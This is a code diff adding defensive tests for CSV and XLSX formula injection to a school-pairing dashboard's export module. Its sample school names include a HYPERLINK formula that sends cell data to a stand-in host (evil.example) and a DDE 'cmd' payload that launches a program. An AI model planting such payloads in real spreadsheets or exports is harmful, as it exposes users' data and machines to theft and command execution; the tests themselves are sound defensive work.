@@ -2,7 +2,7 @@ import ExcelJS from "exceljs";
 import { describe, expect, it } from "vitest";
 import type { Locale } from "~/i18n/config";
 import { i18nServer } from "~/i18n/i18next.server";
-import { contentDisposition, exportFilename, pairingTable, toCsv, toXlsx, type Translate } from "./export.server";
+import { contentDisposition, exportFilename, neutraliseCell, pairingTable, toCsv, toXlsx, type Translate } from "./export.server";
 import type { DashboardReport } from "./queries.server";
 
 const report: DashboardReport = {
@@ -154,6 +154,99 @@ describe("the XLSX report", () => {
     ]);
     expect((totals.getRow(2).values as unknown[]).slice(1)).toEqual(["合川区", 14, 9, 5, 3, 2, 1, 0, 0, 221, 140, 11, 6]);
     expect(totals.rowCount).toBe(2);
+  });
+});
+
+/** School names a hostile coordinator could give, one per character OWASP lists. */
+const FORMULA_NAMES = [
+  '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+  "+1+cmd|' /C calc'!A0",
+  "-2+3",
+  "@SUM(1,2)",
+  "\t=1+1",
+  "\r=1+1",
+];
+
+function hostileReport(): DashboardReport {
+  const [pairing] = report.pairings;
+  return {
+    ...report,
+    pairings: FORMULA_NAMES.map((nameZh, i) => ({
+      ...pairing,
+      id: `p${i}`,
+      schoolA: { ...pairing.schoolA, nameZh, nameEn: null },
+      schoolB: { ...pairing.schoolB, nameZh: `合川${nameZh}`, nameBo: null },
+      minutesTaught: -5,
+    })),
+  };
+}
+
+/** RFC 4180 as Excel reads it: quoted fields may hold commas, quotes ("") and line breaks. */
+function parseCsv(text: string): string[][] {
+  const rows: string[][] = [];
+  let row: string[] = [];
+  let field = "";
+  let quoted = false;
+  for (let i = 0; i < text.length; i++) {
+    const c = text[i];
+    if (quoted && c === '"' && text[i + 1] === '"') {
+      field += '"';
+      i++;
+    } else if (quoted && c === '"') {
+      quoted = false;
+    } else if (quoted) {
+      field += c;
+    } else if (c === '"') {
+      quoted = true;
+    } else if (c === "," || (c === "\r" && text[i + 1] === "\n")) {
+      row.push(field);
+      field = "";
+      if (c === "\r") {
+        rows.push(row);
+        row = [];
+        i++;
+      }
+    } else {
+      field += c;
+    }
+  }
+  return rows;
+}
+
+describe("formula injection (OWASP CSV injection)", () => {
+  it("prefixes text cells that start with =, +, -, @, tab or carriage return with an apostrophe, and nothing else", () => {
+    for (const name of FORMULA_NAMES) expect(neutraliseCell(name)).toBe(`'${name}`);
+    expect(neutraliseCell("合川区=1")).toBe("合川区=1");
+    expect(neutraliseCell("'already text")).toBe("'already text");
+    expect(neutraliseCell(-5)).toBe(-5);
+    expect(neutraliseCell(null)).toBe(null);
+    expect(neutraliseCell("")).toBe("");
+  });
+
+  it("no cell of the CSV a coordinator downloads starts a formula", async () => {
+    const csv = toCsv(pairingTable(hostileReport(), "zh-CN", await translator("zh-CN")));
+    const rows = parseCsv(csv.slice(1));
+    expect(rows).toHaveLength(1 + FORMULA_NAMES.length);
+    for (const [i, name] of FORMULA_NAMES.entries()) {
+      expect(rows[i + 1][0]).toBe(`'${name}`);
+      expect(rows[i + 1][3]).toBe(`合川${name}`);
+      // A number stays a number: minutes are never text.
+      expect(rows[i + 1][15]).toBe("-5");
+    }
+    for (const cell of rows.flat().filter((c) => c !== "-5")) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+  });
+
+  it("the XLSX keeps the same names as typed text, not formulas, exactly as written", async () => {
+    const workbook = new ExcelJS.Workbook();
+    await workbook.xlsx.load(await toXlsx(hostileReport(), "en", await translator("en")));
+    const sheet = workbook.worksheets[0];
+    for (const [i, name] of FORMULA_NAMES.entries()) {
+      const cell = sheet.getRow(i + 2).getCell(1);
+      expect(cell.type).toBe(ExcelJS.ValueType.String);
+      expect(cell.formula).toBeUndefined();
+      // XML readers turn a carriage return into a line feed (XML 1.0 §2.11); the text is otherwise as written.
+      expect(cell.value).toBe(name.replace(/\r/g, "\n"));
+    }
   });
 });
 
